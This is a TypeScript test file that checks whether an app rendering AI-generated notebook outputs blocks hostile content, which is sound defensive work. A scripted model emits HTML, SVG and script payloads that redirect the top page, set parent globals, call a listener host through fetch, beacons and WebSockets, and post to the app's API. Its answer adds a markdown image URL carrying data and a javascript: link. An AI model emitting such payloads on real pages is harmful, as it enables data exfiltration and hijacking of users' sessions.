/** Outputs are hostile: whatever a cell shows must reach neither the page, nor the app's API, nor a network. */
import { expect, onTestFinished, test } from 'vitest';
import { startApp } from '../helpers/app.ts';
import { openPage, unfoldWork } from '../helpers/browser.ts';
import { startListenerServer } from '../helpers/listener-server.ts';
import { startModelServer } from '../helpers/model-server.ts';

/** Everything that loads, navigates or runs without a script element of its own. */
const QUIET_HTML = (host: string) => `<b>quiet table</b>
<img src="http://${host}/img" onerror="parent.pwned = 1"><link rel="stylesheet" href="http://${host}/css">
<link rel="preconnect" href="http://${host}"><meta http-equiv="refresh" content="0;url=http://${host}/meta">
<base href="http://${host}/"><style>@import "http://${host}/import"; b { background: url(http://${host}/bg) }</style>
<video src="http://${host}/video" poster="http://${host}/poster"></video><svg><image href="http://${host}/svg"/></svg>
<form action="http://${host}/form"><button>go</button></form><a href="http://${host}/link">link</a>`;

/** What a program tries once the person has allowed it to run. */
const PROGRAM_HTML = (host: string) => `<p id="program">program</p><script>
const tries = [
  () => { parent.document.title = 'pwned'; }, () => { parent.pwned = 1; }, () => { top.location = 'http://${host}/top'; },
  () => open('http://${host}/popup'), () => { new WebSocket('ws://${host}/ws'); }, () => { new EventSource('http://${host}/es'); },
  () => navigator.sendBeacon('http://${host}/beacon'), () => { new Image().src = 'http://${host}/image'; },
  () => fetch('http://${host}/fetch'), () => fetch('/api/sessions', { method: 'POST', body: '{}' }),
  () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://${host}/iframe' })),
];
Promise.allSettled(tries.map(async (attempt) => attempt())).then(() => {
  location = 'http://${host}/self';
});
</script>`;

const ANSWER = (host: string) =>
  `Done. ![chart](http://${host}/markdown?data=1) <img src="http://${host}/raw"> [click](javascript:alert(1))`;

test('hostile outputs reach nothing', async () => {
  const foreign = await startListenerServer();
  const code = `from IPython.display import HTML, SVG, display
display(HTML('''${QUIET_HTML(foreign.host)}'''))
display(SVG('''<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40"><script>parent.pwned = 1</script><image href="http://${foreign.host}/svg-image"/><rect width="40" height="40"/></svg>'''))
display(HTML('''${PROGRAM_HTML(foreign.host)}'''))`;
  const model = await startModelServer([`\`\`\`python\n${code}\n\`\`\``, ANSWER(foreign.host)]);
  onTestFinished(() => model.close());
  const app = await startApp({ env: { OPENAI_BASE_URL: model.baseUrl, ACTBOOK_MODEL: 'scripted' } });
  const page = await openPage();
  await page.goto(app.loginUrl);
  await page.locator('textarea:focus').waitFor();
  await page.getByRole('textbox', { name: 'Task' }).fill('Attack');
  await page.keyboard.press('Enter');
  await page.locator('[data-outcome="answered"]').waitFor();
  await unfoldWork(page);
  const url = page.url();

  const quiet = page.frameLocator('iframe[src="/frame/index.html"]');
  await quiet.getByText('quiet table').waitFor();
  expect(
    await quiet.locator('link, meta[http-equiv], base, form, script:not([src^="/frame/"]), a[href]').count(),
  ).toBe(0);
  expect(await page.locator('iframe[src="/frame/active.html"]').count()).toBe(0);
  expect(foreign.contacts).toEqual([]);

  await page.getByRole('button', { name: 'Run it' }).click();
  // The last thing it tries is to take its frame elsewhere.
  await page.getByText('This output tried to leave its frame').waitFor();

  // Chromium may connect ahead of a navigation that is then refused; nothing is sent over it.
  expect(foreign.contacts.filter((firstLine) => firstLine !== '')).toEqual([]);
  expect(page.url()).toBe(url);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.evaluate(() => [Reflect.get(globalThis, 'pwned'), document.title === 'pwned'])).toEqual([
    undefined,
    false,
  ]);
  const { sessions } = await (await app.request('/api/sessions')).json();
  expect(sessions).toHaveLength(1);
  const answer = page.getByRole('region', { name: 'Answer' });
  expect(await answer.locator('img, a').count()).toBe(0);
});
